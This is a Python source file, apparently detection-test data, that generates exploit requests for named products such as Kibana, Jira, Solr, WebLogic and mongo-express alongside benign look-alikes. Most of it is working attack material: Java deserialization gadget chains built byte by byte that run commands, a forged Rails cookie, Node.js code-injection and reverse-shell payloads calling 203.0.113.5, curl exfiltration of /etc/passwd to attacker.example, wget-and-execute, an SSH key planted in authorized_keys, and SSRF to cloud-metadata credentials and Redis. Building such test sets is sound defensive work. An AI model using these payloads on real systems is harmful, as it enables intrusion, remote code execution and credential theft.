"""Blind set "hundredthirtieth": published exploit requests for named products, rewritten from memory, for the
generic (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS, PHP data scheme), Java and server-side template
injection titles, with benign requests that carry the same product names, keywords and syntax innocently.

The angle: for each family, the request that a real exploit for a real product sends (CVE advisories, exploit
write-ups, Metasploit modules and nuclei-style templates, bug-bounty reports): Confluence, Jira, Struts, Spring,
Jenkins, GitLab, Exchange, WebLogic, JBoss, Tomcat, Solr, Elasticsearch, Kibana, Nexus, OFBiz, Liferay,
Metabase, Druid, Unomi, VMware, UniFi, MobileIron, WordPress plugins, AWStats, TWiki, Movable Type, Rails,
Spree, mongo-express, math.js, Craft CMS, Grav and others, with the product's own path, parameter, header,
cookie or body shape where remembered. The comment above each list names the products and the vulnerability
class (a CVE id only where it is certain); payloads that are not tied to one product name their target engine.

Families and sub-families:
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization (the ac ed 00 05 magic: percent-encoded raw,
    hex, base64 rO0AB, gzip+base64), java-deserialization-gadget (commons-collections, commons-beanutils,
    spring, groovy, jdk7u21, c3p0, rome, hibernate), log4shell, expression-language (OGNL, SpEL, MVEL, JEXL,
    JSP/Java EE EL), java-polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML),
    class-loading, jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, file or filename, the URL path, or the whole body when the payload is a document), once the
way the product's exploit sends it (placements prefixed "rs-"): to the product's path under the product's
parameter, header or cookie name, as a query string, form body, JSON or XML or YAML document, a raw query string
or form body in the exploit's own wire form, a multipart upload, a PUT body or inside the URL path. Payloads
without a product go to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) under arbitrary parameter names. Raw Java serialization streams go percent-encoded (a str body
cannot carry bytes).

Authorship and independence: written for this repository from general knowledge of each product's published
exploits and the detection titles alone; no WAF rule, engine source, ruleset regression test or public payload
list was read. The Java serialization streams (commons-collections 3 and 4, commons-beanutils, jdk7u21, rome,
groovy shapes) and the Ruby Marshal cookie are built here byte by byte from the two formats' grammars. Measured
once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import hmac
import json
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any, NamedTuple

from .blind_placements import COOKIE_SAFE, FORM, BlindSet, Part, header_safe, request
from .family_gen import _get, _json
from .records import print_records

NAME = "hundredthirtieth"


class P(NamedTuple):
    """A payload as a product's exploit sends it. `path`, `name`: the product's path and parameter (or cookie)
    name; `rs` / `real`: the placement when only one kind fits; `latin`: a byte string held as latin-1;
    `fname`: the file name of an upload."""

    payload: str
    path: str = ""
    name: str = ""
    rs: str = ""
    real: str = ""
    latin: bool = False
    fname: str = ""


Entry = str | P


def _b64(raw: bytes | str) -> str:
    return base64.b64encode(raw.encode() if isinstance(raw, str) else raw).decode()


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _doc(obj: Any) -> str:
    return json.dumps(obj, separators=(",", ":"))


# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams (java.io.ObjectOutputStream grammar, protocol 2), built here
MAGIC = b"\xac\xed\x00\x05"
NULL = b"p"
Field = tuple[str, str, str]   # type code, name, field class (object and array fields only)


def _utf(text: str) -> bytes:
    raw = text.encode()
    return struct.pack(">H", len(raw)) + raw


def _s(text: str) -> bytes:
    return b"t" + _utf(text)


def _desc(cls: str, suid: int, flags: int, fields: tuple[Field, ...] = (), sup: bytes = NULL) -> bytes:
    out = b"r" + _utf(cls) + struct.pack(">qB", suid, flags) + struct.pack(">H", len(fields))
    for code, name, typ in fields:
        out += code.encode() + _utf(name) + (_s(typ) if typ else b"")
    return out + b"x" + sup


def _obj(desc: bytes, data: bytes = b"") -> bytes:
    return b"s" + desc + data


def _arr(cls: str, suid: int, items: list[bytes]) -> bytes:
    return b"u" + _desc(cls, suid, 2) + struct.pack(">i", len(items)) + b"".join(items)


SUIDS = {"java.lang.String": -6849794470754667710, "[Ljava.lang.Class;": -6118465897992725863,
         "[Ljava.lang.Object;": -8012369246846506644}


def _cls(cls: str) -> bytes:
    return b"v" + _desc(cls, SUIDS.get(cls, 0), 2 if cls in SUIDS else 0)


NUMBER = _desc("java.lang.Number", -8742448824652078965, 2)


def _int(n: int) -> bytes:
    return _obj(_desc("java.lang.Integer", 1360826667806852920, 2, (("I", "value", ""),), NUMBER), struct.pack(">i", n))


def _hashmap(entries: list[tuple[bytes, bytes]]) -> bytes:
    desc = _desc("java.util.HashMap", 362498820763181265, 3, (("F", "loadFactor", ""), ("I", "threshold", "")))
    body = b"".join(k + v for k, v in entries)
    return _obj(desc, struct.pack(">fi", 0.75, 12) + b"w\x08" + struct.pack(">ii", 16, len(entries)) + body + b"x")


def _hashset(items: list[bytes], linked: bool = False) -> bytes:
    desc = _desc("java.util.HashSet", -5024744406713321676, 3)
    if linked:
        desc = _desc("java.util.LinkedHashSet", -2851667679971038690, 2, (), desc)
    return _obj(desc, b"w\x0c" + struct.pack(">ifi", 16, 0.75, len(items)) + b"".join(items) + b"x")


CC3 = "org.apache.commons.collections."
CC4 = "org.apache.commons.collections4."


def _invoker(pkg: str, method: str, ptypes: list[str], args: list[bytes]) -> bytes:
    desc = _desc(pkg + "functors.InvokerTransformer", -8653385846894047688, 2,
                 (("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
                  ("[", "iParamTypes", "[Ljava/lang/Class;")))
    return _obj(desc, _arr("[Ljava.lang.Object;", SUIDS["[Ljava.lang.Object;"], args) + _s(method)
                + _arr("[Ljava.lang.Class;", SUIDS["[Ljava.lang.Class;"], [_cls(t) for t in ptypes]))


def _constant(value: bytes) -> bytes:
    desc = _desc(CC3 + "functors.ConstantTransformer", 6374440726369055124, 2,
                 (("L", "iConstant", "Ljava/lang/Object;"),))
    return _obj(desc, value)


def _chain(cmd: str) -> bytes:
    """Runtime.getRuntime().exec(cmd) as commons-collections 3 transformers (ysoserial's chain)."""
    items = [_constant(_cls("java.lang.Runtime")),
             _invoker(CC3, "getMethod", ["java.lang.String", "[Ljava.lang.Class;"],
                      [_s("getRuntime"), _arr("[Ljava.lang.Class;", SUIDS["[Ljava.lang.Class;"], [])]),
             _invoker(CC3, "invoke", ["java.lang.Object", "[Ljava.lang.Object;"],
                      [NULL, _arr("[Ljava.lang.Object;", SUIDS["[Ljava.lang.Object;"], [])]),
             _invoker(CC3, "exec", ["java.lang.String"], [_s(cmd)]),
             _constant(_int(1))]
    desc = _desc(CC3 + "functors.ChainedTransformer", 3514945074733160196, 2,
                 (("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;"),))
    return _obj(desc, _arr("[Lorg.apache.commons.collections.Transformer;", -4803604734341277543, items))


def _tied(cmd: str) -> bytes:
    lazy = _obj(_desc(CC3 + "map.LazyMap", 7990956402564206740, 3,
                      (("L", "factory", "Lorg/apache/commons/collections/Transformer;"),)),
                _chain(cmd) + _hashmap([]) + b"x")
    desc = _desc(CC3 + "keyvalue.TiedMapEntry", -8453869361373831205, 2,
                 (("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;")))
    return _obj(desc, _s("foo") + lazy)


def cc5(cmd: str) -> bytes:
    """CommonsCollections5: BadAttributeValueExpException.val = TiedMapEntry(LazyMap(chain))."""
    desc = _desc("javax.management.BadAttributeValueExpException", -3105272988410493376, 2,
                 (("L", "val", "Ljava/lang/Object;"),))
    return MAGIC + _obj(desc, _tied(cmd))


def cc6(cmd: str) -> bytes:
    """CommonsCollections6: a HashSet holding the TiedMapEntry."""
    return MAGIC + _hashset([_tied(cmd)])


def _templates(tag: str) -> bytes:
    """TemplatesImpl carrying a class file (only its header here: the class body is the tester's own)."""
    klass = b"\xca\xfe\xba\xbe\x00\x00\x00\x32\x00\x1e\x0a\x00\x06\x00\x11" + tag.encode()
    inner = b"u" + _desc("[B", -5984413125824719648, 2) + struct.pack(">i", len(klass)) + klass
    desc = _desc("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707, 3,
                 (("I", "_indentNumber", ""), ("I", "_transletIndex", ""), ("[", "_bytecodes", "[[B"),
                  ("[", "_class", "[Ljava/lang/Class;"), ("L", "_name", "Ljava/lang/String;"),
                  ("L", "_outputProperties", "Ljava/util/Properties;")))
    return _obj(desc, struct.pack(">ii", 0, -1) + _arr("[[B", 5475347355271756599, [inner]) + NULL + _s("Pwnr")
                + NULL + b"w\x01\x00x")


def _pqueue(comparator: bytes, items: list[bytes]) -> bytes:
    desc = _desc("java.util.PriorityQueue", -7720805057305804111, 3,
                 (("I", "size", ""), ("L", "comparator", "Ljava/util/Comparator;")))
    return _obj(desc, struct.pack(">i", len(items)) + comparator + b"w\x04" + struct.pack(">i", len(items) + 1)
                + b"".join(items) + b"x")


def cc2(tag: str) -> bytes:
    """CommonsCollections2 (collections4): PriorityQueue, TransformingComparator, InvokerTransformer
    newTransformer, TemplatesImpl."""
    cmp = _obj(_desc(CC4 + "comparators.TransformingComparator", 3456940356043606220, 2,
                     (("L", "decorated", "Ljava/util/Comparator;"),
                      ("L", "transformer", "Lorg/apache/commons/collections4/Transformer;"))),
               _obj(_desc(CC4 + "comparators.ComparableComparator", -291439688585137865, 2))
               + _invoker(CC4, "newTransformer", [], []))
    return MAGIC + _pqueue(cmp, [_templates(tag), _int(1)])


def cb1(tag: str) -> bytes:
    """CommonsBeanutils1: PriorityQueue, BeanComparator("outputProperties"), TemplatesImpl."""
    cmp = _obj(_desc("org.apache.commons.beanutils.BeanComparator", -2044202215314119608, 2,
                     (("L", "comparator", "Ljava/util/Comparator;"), ("L", "property", "Ljava/lang/String;"))),
               _obj(_desc("java.lang.String$CaseInsensitiveComparator", 8575799808933029326, 2))
               + _s("outputProperties"))
    return MAGIC + _pqueue(cmp, [_templates(tag), _templates(tag)])


def _handler(members: bytes, annotation: str) -> bytes:
    desc = _desc("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397, 2,
                 (("L", "memberValues", "Ljava/util/Map;"), ("L", "type", "Ljava/lang/Class;")))
    return _obj(desc, members + _cls(annotation))


def _proxy(iface: str, handler: bytes) -> bytes:
    sup = _desc("java.lang.reflect.Proxy", -2222568056686623797, 2,
                (("L", "h", "Ljava/lang/reflect/InvocationHandler;"),))
    return b"s}" + struct.pack(">i", 1) + _utf(iface) + b"x" + sup + handler


def jdk7u21(tag: str) -> bytes:
    """Jdk7u21: LinkedHashSet of TemplatesImpl and a Templates proxy whose map key hashes like it (f5a5a608)."""
    tpl = _templates(tag)
    handler = _handler(_hashmap([(_s("f5a5a608"), tpl)]), "javax.xml.transform.Templates")
    return MAGIC + _hashset([tpl, _proxy("javax.xml.transform.Templates", handler)], linked=True)


def groovy1(cmd: str) -> bytes:
    """Groovy1: AnnotationInvocationHandler over a Map proxy whose ConvertedClosure runs MethodClosure(cmd,
    "execute") on entrySet()."""
    closure = _desc("groovy.lang.Closure", 4368710879820278874, 2,
                    (("I", "directive", ""), ("I", "maximumNumberOfParameters", ""), ("I", "resolveStrategy", ""),
                     ("L", "delegate", "Ljava/lang/Object;"), ("L", "owner", "Ljava/lang/Object;"),
                     ("[", "parameterTypes", "[Ljava/lang/Class;"), ("L", "thisObject", "Ljava/lang/Object;")))
    method = _obj(_desc("org.codehaus.groovy.runtime.MethodClosure", -2491254866810955844, 2,
                        (("L", "method", "Ljava/lang/String;"),), closure),
                  struct.pack(">iii", 0, 0, 0) + _s(cmd) + _s(cmd) + NULL + NULL + _s("execute"))
    conv = _desc("org.codehaus.groovy.runtime.ConversionHandler", 0, 2, (("L", "delegate", "Ljava/lang/Object;"),))
    converted = _obj(_desc("org.codehaus.groovy.runtime.ConvertedClosure", -1734063591566627370, 2,
                           (("L", "methodName", "Ljava/lang/String;"),), conv), method + _s("entrySet"))
    inner = _handler(_proxy("java.util.Map", converted), "java.lang.Override")
    return MAGIC + _handler(_proxy("java.util.Map", inner), "java.lang.Override")


def rome(tag: str) -> bytes:
    """ROME: HashMap key ObjectBean whose ToStringBean calls getOutputProperties() on TemplatesImpl."""
    tsb = _obj(_desc("com.sun.syndication.feed.impl.ToStringBean", -5850496718959612854, 2,
                     (("L", "_beanClass", "Ljava/lang/Class;"), ("L", "_obj", "Ljava/lang/Object;"))),
               _cls("javax.xml.transform.Templates") + _templates(tag))
    bean = _obj(_desc("com.sun.syndication.feed.impl.ObjectBean", 1462587938546357788, 2,
                      (("L", "_cloneableBean", "Lcom/sun/syndication/feed/impl/CloneableBean;"),
                       ("L", "_equalsBean", "Lcom/sun/syndication/feed/impl/EqualsBean;"),
                       ("L", "_toStringBean", "Lcom/sun/syndication/feed/impl/ToStringBean;"))),
                NULL + NULL + tsb)
    return MAGIC + _hashmap([(bean, _s("rome"))])


SER_PROBE_STRING = MAGIC + _s("whoami")
SER_PROBE_BOOLEAN = MAGIC + _obj(_desc("java.lang.Boolean", -3665804199014368530, 2, (("Z", "value", ""),)), b"\x01")
SER_PROBE_INTEGER = MAGIC + _int(31337)
SER_EMPTY_SET = MAGIC + _hashset([])


def _hexs(raw: bytes, upper: bool = False) -> str:
    return raw.hex().upper() if upper else raw.hex()


def _gzb64(raw: bytes) -> str:
    return _b64(gzip.compress(raw, mtime=0))


# ----------------------------------------------------------------------------------------------------------------
# Ruby Marshal (4.8), built here: the ERB + DeprecatedInstanceVariableProxy gadget of Rails cookie stores
def _rint(n: int) -> bytes:
    if n == 0:
        return b"\x00"
    if 0 < n < 123:
        return bytes([n + 5])
    raw = n.to_bytes((n.bit_length() + 7) // 8, "little")
    return bytes([len(raw)]) + raw


def _rsym(name: str) -> bytes:
    return b":" + _rint(len(name)) + name.encode()


def _rstr(text: str) -> bytes:
    raw = text.encode()
    return b'I"' + _rint(len(raw)) + raw + b"\x06" + _rsym("E") + b"T"


def _robj(cls: str, ivars: list[tuple[str, bytes]]) -> bytes:
    return b"o" + _rsym(cls) + _rint(len(ivars)) + b"".join(_rsym(k) + v for k, v in ivars)


def rails_cookie(code: str, secret: str) -> str:
    """A Rails 3/4 signed cookie (base64 Marshal + "--" + HMAC-SHA1) made with a leaked secret_token."""
    erb = _robj("ERB", [("@src", _rstr(code)), ("@filename", _rstr("1")), ("@lineno", b"i" + _rint(1))])
    proxy = _robj("ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy",
                  [("@instance", erb), ("@method", _rsym("result")), ("@var", _rstr("@result")),
                   ("@deprecator", _robj("ActiveSupport::Deprecation", []))])
    data = _b64(b"\x04\x08" + proxy)
    return data + "--" + hmac.new(secret.encode(), data.encode(), hashlib.sha1).hexdigest()


# ================================================================================================================
# Payloads
# --- generic -----------------------------------------------------------------------------------------------------
NODE_SER = ('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\',function(error,stdout,stderr)'
            '{console.log(stdout)});}()"}')
NODE_SER_REV = ('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'nc -e /bin/sh 203.0.113.5 '
                '4444\')}()","country":"none","city":"none"}')
STRAPI_TPL = ('<%= `${ process.binding("spawn_sync").spawn({"file":"/bin/sh","args":["/bin/sh","-c","id"],'
              '"stdio":[{"readable":1,"writable":1,"type":"pipe"},{"readable":1,"writable":1,"type":"pipe"}]})'
              '.output }` %>')
CHARCODES = ",".join(str(ord(c)) for c in "require('child_process').execSync('id')")
# Node.js code injection: node-serialize unserialize() of the `profile` cookie (CVE-2017-5941), mongo-express
# checkValid `document` (CVE-2019-10758), the math.js expression API `expr`, dustjs `if` helper eval through
# `device[]` (PayPal's demo site report), js-yaml load() of !!js/function, Strapi email templates (lodash
# template), vm2 sandbox escapes from the advisories, safe-eval / static-eval, lodash _.template `variable`,
# and express apps that eval() a query parameter
NODE: list[Entry] = [
    P(_b64(NODE_SER), "/", "profile", "rs-cookie", "cookie"),
    P(NODE_SER, "/api/profile", "", "rs-json-body", "json-body"),
    P(_b64(NODE_SER_REV), "/", "profile", "rs-cookie", "cookie"),
    P('this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id")',
      "/checkValid", "document", "rs-form"),
    P("cos.constructor(\"return process.mainModule.require('child_process').execSync('id').toString()\")()",
      "/v4/", "expr"),
    P('f=cos.constructor;g=f("return process");g().mainModule.require("fs").readFileSync("/etc/passwd","utf8")',
      "/v4/", "expr", "rs-form"),
    P("device[]=x&device[]=y'-require('child_process').exec('curl%20-F%20%22x=`cat%20/etc/passwd`%22%20"
      "http://attacker.example')-'", "/demo/navigation", "", "rs-raw-query", "raw-query"),
    P("\"toString\": !!js/function \"function (){ return require('child_process').execSync('id').toString() }\"",
      "/api/settings/import", "", "rs-body:application/x-yaml", "body:application/x-yaml"),
    P(_doc({"email-templates": {"reset_password": {"display": "Email.template.reset_password", "options": {
        "from": {"name": "Admin", "email": "no-reply@strapi.io"}, "object": "Reset password",
        "message": STRAPI_TPL}}}}), "/admin/plugins/users-permissions/email-templates", "", "rs-json-body",
      "json-body"),
    P('const err = new Error(); err.name = {toString: new Proxy(() => "", {apply(target, thiz, args) {const process '
      '= args.constructor.constructor("return process")(); throw process.mainModule.require("child_process")'
      '.execSync("id").toString();}})}; try {err.stack;} catch (stdout) {stdout;}', "/api/sandbox/run", "code",
      "rs-json"),
    P("Error.prepareStackTrace=(e,frames)=>{frames.constructor.constructor('return process')().mainModule"
      ".require('child_process').execSync('id')};(async()=>{}).x.y", "/api/sandbox/run", "code", "rs-json"),
    P("({}).constructor.constructor('return this.process')().mainModule.require('child_process')"
      ".execSync('cat /etc/passwd')", "/calc", "expression"),
    P("(function(x){return x.constructor.constructor})('')('return process')().mainModule"
      ".require('child_process').execSync('id')", "/api/rules/evaluate", "condition", "rs-json"),
    P("x){return process.mainModule.require('child_process').execSync('id')}; with(obj", "/preview", "variable"),
    "require('child_process').spawn('sh',['-c','nc 203.0.113.5 4444 -e /bin/sh'])",
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new "
    "net.Socket();client.connect(4444,'203.0.113.5',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);"
    "sh.stderr.pipe(client);});return /a/;})();",
    "require('fs').writeFileSync('/root/.ssh/authorized_keys','ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0Sd"
    "G6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker')",
    "res.end(require('fs').readdirSync('.').toString())",
    "process.mainModule.require('http').get('http://attacker.example/?'+Buffer.from(JSON.stringify(process.env))"
    ".toString('base64'))",
    "require(\"child_process\").exec(\"wget http://203.0.113.5/x -O /tmp/x;chmod +x /tmp/x;/tmp/x\")",
    f"eval(String.fromCharCode({CHARCODES}))",
]
# Node.js denial of service: endless loops and huge allocations through the eval/vm/sandbox endpoints above
# (vm timeouts escaped through promises), math.js huge matrices, and ReDoS in what Express apps parse: semver
# ranges (CVE-2022-25883), moment's RFC 2822 preprocessing (CVE-2022-31129), path-to-regexp routes with two
# parameters in one segment (CVE-2024-45296), search filters compiled with new RegExp(q), deep JSON nesting
NODE_DOS: list[Entry] = [
    P("while(true){}", "/api/sandbox/run", "code", "rs-json"),
    P("for(;;){}", "/api/sandbox/run", "code", "rs-json"),
    P("Promise.resolve().then(()=>{while(1){}})", "/api/sandbox/run", "code", "rs-json"),
    P("(async function(){while(true){}})()", "/calc", "expression"),
    P("'x'.repeat(1e9)", "/calc", "expression"),
    P("new Array(1e9).fill(1)", "/api/rules/evaluate", "condition", "rs-json"),
    "Buffer.allocUnsafe(0x7fffffff)",
    "require('fs').readFileSync('/dev/zero')",
    "Array.from({length:1e9},()=>0)",
    P("ones(100000,100000)", "/v4/", "expr"),
    P("range(1,1e10)", "/v4/", "expr"),
    P(">=1.0.0 " + " " * 20000 + "<", "/api/packages/resolve", "range", "rs-json", "json"),
    P("(" * 20000, "/api/events", "date", "rs-json", "json"),
    P("^(([a-z])+.)+[A-Z]([a-z])+$", "/api/users/search", "q"),
    P("(.*a){25}", "/api/products", "filter"),
    P("((a|a)+)+b", "/api/logs", "pattern"),
    P('{"a":' * 8000 + "1" + "}" * 8000, "/api/import", "", "rs-json-body", "json-body"),
    P("-" * 4000 + "/x", "/flights/{}", "", "rs-path"),
    "setInterval(()=>Array(1e7).fill('x'),1)",
    "require('crypto').pbkdf2Sync('a','b',1e9,64,'sha512')",
    "[...Array(1e9).keys()]",
]
# SSRF to cloud metadata services: Jira gadgets makeRequest with the user@host trick (CVE-2019-8451), Jenkins
# GitHub plugin createTokenByPassword `apiUrl`, the WordPress oEmbed proxy, a Grafana data source in proxy mode,
# WebLogic uddiexplorer SearchPublicRegistries `operator` (CVE-2014-4210), the Capital One style reverse-proxy
# `url` with its WAF role, HTML-to-PDF exporters (iframe), XXE SYSTEM ids, webhook testers that set headers;
# AWS (IMDSv1 and the IMDSv2 token PUT through gopher), GCP, Azure, Alibaba, DigitalOcean, Oracle, ECS, IPv6
# and DNS-rebinding host forms
SSRF_METADATA: list[Entry] = [
    P("https://jira.example.com:443@169.254.169.254/latest/meta-data/iam/security-credentials/",
      "/plugins/servlet/gadgets/makeRequest", "url"),
    P("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "/descriptorByName/org.jenkinsci.plugins."
      "github.config.GitHubTokenCredentialsCreator/createTokenByPassword", "apiUrl", "rs-form"),
    P("http://169.254.169.254/latest/meta-data/", "/wp-json/oembed/1.0/proxy", "url"),
    P(_doc({"name": "meta", "type": "prometheus", "url": "http://169.254.169.254/latest/meta-data/iam/security-"
            "credentials/", "access": "proxy", "isDefault": False}), "/api/datasources", "", "rs-json-body",
      "json-body"),
    P("operator=http://169.254.169.254/latest/dynamic/instance-identity/document&rdoSearch=name&txtSearchname=sdf"
      "&txtSearchkey=&txtSearchfor=&selfor=Business+location&btnSubmit=Search",
      "/uddiexplorer/SearchPublicRegistries.jsp", "", "rs-raw-query", "raw-query"),
    P("http://169.254.169.254/latest/meta-data/iam/security-credentials/ISRM-WAF-Role", "/", "url"),
    P('<iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="1000" '
      'height="1000"></iframe>', "/api/invoices/render", "html", "rs-json"),
    P('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/hostname">]>'
      "<r>&m;</r>", "/services/import", "", "rs-xml", "xml"),
    P(_doc({"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "method": "GET", "headers": {"Metadata-Flavor": "Google"}}), "/api/webhooks/test", "", "rs-json-body",
      "json-body"),
    P("http://metadata.google.internal/computeMetadata/v1/instance/attributes/kube-env?alt=json", "/fetch", "url"),
    P("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://"
      "management.azure.com/", "/api/v1/preview", "link"),
    P(_doc({"url": "http://169.254.169.254/metadata/instance/compute?api-version=2021-01-01&format=json",
            "headers": {"Metadata": "true"}}), "/api/hooks/verify", "", "rs-json-body", "json-body"),
    P("gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
      "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A", "/proxy", "url"),
    P("http://100.100.100.200/latest/user-data", "/api/image/fetch", "src"),
    P("http://169.254.169.254/metadata/v1/user-data", "/api/avatar", "avatar_url", "rs-json"),
    "http://169.254.169.254/opc/v1/instance/metadata/",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/public-keys/0/openssh-key",
    "http://instance-data.ec2.internal/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
    "http://169.254.170.2/v2/metadata",
]
GOPHER_REDIS = ("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1"
                "%0D%0A%2434%0D%0A%0A%0A%3C%3Fphp%20system%28%24_GET%5B%27cmd%27%5D%29%3B%20%3F%3E%0A%0A%0D%0A%2A4"
                "%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2413%0D%0A/var/www/html%0D%0A"
                "%2A1%0D%0A%244%0D%0Asave%0D%0A")
GOPHER_FCGI = ("gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01%01%05%05%00"
               "%0F%10SERVER_SOFTWAREgo%20/%20fcgiclient%20%0B%09REMOTE_ADDR127.0.0.1%0F%08SERVER_PROTOCOLHTTP/1.1"
               "%0E%02CONTENT_LENGTH56%0E%04REQUEST_METHODPOST%09KPHP_VALUEallow_url_include%20%3D%20On%0A"
               "auto_prepend_file%20%3D%20php%3A//input%0F%17SCRIPT_FILENAME/usr/share/php/PEAR.php%00%00%00%00")
WP_PINGBACK = ('<?xml version="1.0" encoding="iso-8859-1"?><methodCall><methodName>pingback.ping</methodName><params>'
               "<param><value><string>http://127.0.0.1:22/</string></value></param><param><value><string>"
               "https://blog.example.com/?p=1</string></value></param></params></methodCall>")
# SSRF to internal addresses: Apache httpd mod_proxy's unix: socket path (CVE-2021-40438), WebLogic uddiexplorer
# (CVE-2014-4210), Zimbra ProxyServlet `target`, Jira/Confluence OAuth icon-uri `consumerUri` (CVE-2017-9506),
# Solr ReplicationHandler `masterUrl` and remote streaming `stream.url`, GitLab CI lint remote include, Exchange
# ProxyLogon's X-BEResource cookie (CVE-2021-26855), WordPress XML-RPC pingback.ping; Gopherus-style gopher://
# to Redis and PHP-FPM, dict://, file://, and the address as hex, octal, decimal, short, IPv6, rebinding names
SSRF_IP: list[Entry] = [
    P("unix:" + "A" * 5000 + "|http://127.0.0.1:8080/server-status", "/", "", "rs-raw-query", "raw-query"),
    P("operator=http://127.0.0.1:7001&rdoSearch=name&txtSearchname=sdf&txtSearchkey=&txtSearchfor=&selfor=Business"
      "+location&btnSubmit=Search", "/uddiexplorer/SearchPublicRegistries.jsp", "", "rs-raw-query", "raw-query"),
    P("https://127.0.0.1:7071/service/admin/soap", "/service/proxy", "target"),
    P("http://0x7f000001:8080/manager/html", "/plugins/servlet/oauth/users/icon-uri", "consumerUri"),
    P("command=fetchindex&masterUrl=http://2130706433:8983/solr/admin/cores?action=STATUS", "/solr/db/replication",
      "", "rs-raw-query", "raw-query"),
    P("param=ContentStreams&stream.url=file:///etc/passwd", "/solr/core1/debug/dump", "", "rs-raw-query",
      "raw-query"),
    P(_doc({"include_merged_yaml": True, "content": "include:\n  remote: http://127.0.0.1:9090/api/v1/targets?x.yml"}),
      "/api/v4/ci/lint", "", "rs-json-body", "json-body"),
    P("localhost:444/ecp/proxyLogon.ecp?a=~1942062522", "/ecp/y.js", "X-BEResource", "rs-cookie", "cookie"),
    P(WP_PINGBACK, "/xmlrpc.php", "", "rs-xml", "xml"),
    P(GOPHER_REDIS, "/api/fetch", "url"),
    P(GOPHER_FCGI, "/proxy", "url"),
    P("dict://127.0.0.1:6379/config:set:dir:/var/spool/cron/crontabs", "/api/webhooks", "url", "rs-json"),
    P("http://0177.00.00.01:2375/v1.40/containers/json", "/api/image/fetch", "src"),
    P("http://2130706433:9200/_cat/indices?v", "/api/avatar", "avatar_url", "rs-json"),
    "http://127.1:8500/v1/agent/self",
    "http://[::]:10255/pods",
    "http://0:8161/admin/",
    "http://localtest.me:15672/api/overview",
    "http://[0:0:0:0:0:ffff:7f00:1]:2379/v2/keys/?recursive=true",
    "http://127.0.0.1.nip.io:5984/_all_dbs",
    P("file:///proc/self/environ", "/api/fetch", "url"),
]
KIBANA_SHEET = (".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i >& "
                "/dev/tcp/203.0.113.5/4444 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS="
                "'--require /proc/self/environ')")
# Prototype pollution: Kibana Timelion (CVE-2019-7609), express-fileupload parseNested of multipart field names
# (CVE-2020-7699) into EJS's outputFunctionName, lodash merge / defaultsDeep / set on request JSON with the EJS,
# pug and handlebars AST gadgets and the child_process spawn / NODE_OPTIONS gadgets, PortSwigger-style
# server-side detection (json spaces, status, exposedHeaders), and the client-side query gadgets (jQuery
# deparam / purl / $.get) that bug-bounty reports chain to XSS
POLLUTION: list[Entry] = [
    P(_doc({"sheet": [KIBANA_SHEET], "time": {"from": "now-15m", "to": "now", "mode": "quick", "interval": "auto",
                                            "timezone": "Europe/Berlin"}}), "/api/timelion/run", "", "rs-json-body",
      "json-body"),
    P("__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('nc -e /bin/sh "
      "203.0.113.5 4444');x", "/upload", "", "rs-multipart-kv", "multipart-kv"),
    P(_doc({"__proto__": {"outputFunctionName": "_tmp1;global.process.mainModule.require('child_process')"
                                                ".execSync('id');var __tmp2"}}), "/api/settings", "",
      "rs-json-body", "json-body"),
    P(_doc({"__proto__": {"block": {"type": "Text", "line": "process.mainModule.require('child_process')"
                                                            ".execSync('id')"}}}), "/api/profile", "",
      "rs-json-body", "json-body"),
    P(_doc({"__proto__": {"type": "Program", "body": [{"type": "MustacheStatement", "path": 0, "params": [
